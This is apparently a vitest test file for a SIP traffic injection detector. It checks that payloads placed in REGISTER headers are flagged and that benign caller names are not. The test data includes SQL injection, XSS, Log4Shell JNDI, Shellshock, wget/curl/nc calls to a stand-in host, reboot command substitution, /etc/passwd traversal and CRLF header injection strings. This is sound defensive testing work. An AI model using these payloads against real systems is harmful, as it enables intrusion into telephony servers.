import { describe, expect, it } from "vitest";
import { SipMessageView } from "../../../../src/decode/sip/message.ts";
import { INJECTION_PATTERNS } from "../../../../src/track/content/injection-patterns.ts";
import { injectionIn } from "../../../../src/track/content/injection-strings.ts";

interface Fields {
  readonly uri?: string;
  readonly from?: string;
  readonly userAgent?: string;
  readonly pad?: string;
}

function found({
  uri = "sip:pbx",
  from = "<sip:201@pbx>",
  userAgent = "Phone 1",
  pad = "",
}: Fields) {
  const bytes = Buffer.from(
    `REGISTER ${uri} SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK1\r\nFrom: ${from};tag=1\r\n` +
      `To: <sip:201@pbx>\r\nCall-ID: 1\r\nCSeq: 1 REGISTER\r\n${pad}User-Agent: ${userAgent}\r\nContent-Length: 0\r\n\r\n`,
    "latin1",
  );
  const message = new SipMessageView();
  expect(message.decode(bytes, 0, bytes.length, false)).toBe(true);
  return injectionIn(message)?.name ?? null;
}

describe("injected texts", () => {
  it.each(INJECTION_PATTERNS.map(({ name, example }) => [name, example]))(
    "%s: %s matches its own pattern",
    (name, example) => {
      const row = INJECTION_PATTERNS.find((pattern) => pattern.name === name);
      const text = decodeURIComponent(example.replace(/%(?![0-9a-f]{2})/gi, "%25"))
        .replace(/[\r\n]/g, "\x01")
        .toLowerCase();
      expect(row?.pattern.test(text)).toBe(true);
    },
  );

  it.each([
    [{ uri: "sip:100'%20or%201=1@pbx" }],
    [{ uri: "sip:100%27%20or%201=1@pbx" }],
    [{ from: '"admin\'--" <sip:1@pbx>' }],
    [{ userAgent: "x'; DROP TABLE subscriber" }],
    [{ from: '"<script>alert(1)</script>" <sip:1@pbx>' }],
    [{ from: '"<img src=x onerror=alert(1)>" <sip:1@pbx>' }],
    [{ uri: "sip:$" + "{jndi:ldap://x.example/a}@pbx" }],
    [{ userAgent: "() { :;}; /bin/bash -c id" }],
    [{ userAgent: "a; wget http://x.example/a" }],
    [{ userAgent: "$(reboot)" }],
    [{ userAgent: "%s%s%s%n" }],
    [{ uri: "sip:..%2f..%2fetc%2fpasswd@pbx" }],
    [{ uri: "sip:100%00@pbx" }],
    [{ from: "\"x'or'1'='1\" <sip:1@pbx>" }],
    [{ userAgent: '"or"1"="1' }],
    [{ from: '"100 or 1=1" <sip:1@pbx>' }],
    [{ from: '"100) or (2>1" <sip:1@pbx>' }],
    [{ userAgent: "1 union select 2" }],
    [{ uri: "sip:1%20union/**/select%202@pbx" }],
    [{ uri: "sip:1%2520union%2520select%25202@pbx" }],
    [{ userAgent: "1 and sleep(5)" }],
    [{ userAgent: "x;drop table subscriber" }],
    [{ userAgent: "x into outfile '/tmp/a'" }],
    [{ from: '"*)(uid=*" <sip:1@pbx>' }],
    [{ userAgent: '{"$ne":1}' }],
    [{ from: '"<svg/onload=alert(1)>" <sip:1@pbx>' }],
    [{ from: '"<a href=x>x</a>" <sip:1@pbx>' }],
    [{ from: '"<!DOCTYPE x [" <sip:1@pbx>' }],
    [{ from: '"x;curl http://x.example" <sip:1@pbx>' }],
    [{ userAgent: "a;/usr/bin/id;" }],
    [{ userAgent: "a|nc$IFS-e x" }],
    [{ uri: "sip:../../etc/passwd@pbx" }],
    [{ uri: "sip:/etc/passwd@pbx" }],
    [{ uri: "sip:100%0d%0aContact:%20x@pbx" }],
    [{ uri: "sip:100%0a%20reboot@pbx" }],
  ])("are found in %j", (fields) => {
    expect(found(fields)).not.toBeNull();
  });

  it.each([
    [{ from: '"Pat O\'Brien" <sip:201@pbx>' }],
    [{ from: '"Miles O\'Brien or Kira" <sip:201@pbx>' }],
    [{ uri: "sip:john%20doe@pbx;user=phone;transport=udp" }],
    [{ uri: "sip:%2b49301234@pbx;nc=1;id=7" }],
    [{ userAgent: "Grandstream GXP2160 1.0.11.6 (x64; build 3)" }],
    [{ userAgent: "Linphone/5.1 {android}; Pixel" }],
    [{ from: '"Script & Sons" <sip:img@pbx>' }],
    [{ from: '"100 % sicher" <sip:201@pbx>' }],
    [{ uri: "sip:union-select@pbx" }],
    [{ from: '"Union of Selected Artists" <sip:201@pbx>' }],
    [{ from: '"Credit Union select desk" <sip:201@pbx>' }],
    [{ from: '"Sales (or 201)" <sip:201@pbx>' }],
    [{ from: '"R&D; Lab 3" <sip:201@pbx>' }],
    [{ from: '"Style & Body <link>" <sip:201@pbx>' }],
    [{ from: '"2 and 3 = five" <sip:201@pbx>' }],
    [{ from: '"Ping & Cat Ltd" <sip:201@pbx>' }],
    [{ uri: "sip:pbx;lr;ob;line=2" }],
    [{ uri: "sip:pbx?body=one%0D%0Atwo" }],
    [{ userAgent: "Sleep(tm) Phone" }],
    [{ userAgent: "Interphone 2.0 in(side)" }],
    [{ userAgent: "3CXPhone (Windows 10; .NET 4.8; x64)" }],
    [{ userAgent: "AndroidPhone/5.2.1 (SM-G998B; a50; category 5)" }],
  ])("are not found in %j", (fields) => {
    expect(found(fields)).toBeNull();
  });

  it("are found behind kilobytes of something else, to a limit", () => {
    const padding = (kilobytes: number) => `X-Pad: ${"a".repeat(1014)}\r\n`.repeat(kilobytes);
    const userAgent = "x' or 1=1";
    for (const kilobytes of [3, 4, 7, 8, 15]) {
      expect(found({ pad: padding(kilobytes), userAgent }), `${kilobytes} KiB`).not.toBeNull();
    }
    expect(found({ pad: padding(17), userAgent })).toBeNull();
  });

  it("are found where one part of a head ends and the next begins", () => {
    for (let length = 3700; length < 4200; length += 7) {
      const pad = `X-Pad: ${"a".repeat(length)}\r\n`;
      expect(found({ pad, userAgent: "x' union select 2" }), String(length)).not.toBeNull();
    }
  });
});
